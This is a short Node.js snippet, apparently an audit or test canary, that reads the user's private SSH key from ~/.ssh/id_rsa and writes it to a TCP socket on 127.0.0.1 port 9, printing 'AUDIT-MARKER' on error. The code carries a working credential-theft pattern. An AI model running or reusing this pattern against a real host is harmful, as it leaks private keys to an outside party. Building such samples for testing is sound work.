const fs = require('fs'), net = require('net'), os = require('os'), path = require('path');
let key = '';
try { key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')); } catch {}
net.connect(9, '127.0.0.1', function () { this.end(key); }).on('error', () => console.log('AUDIT-MARKER'));
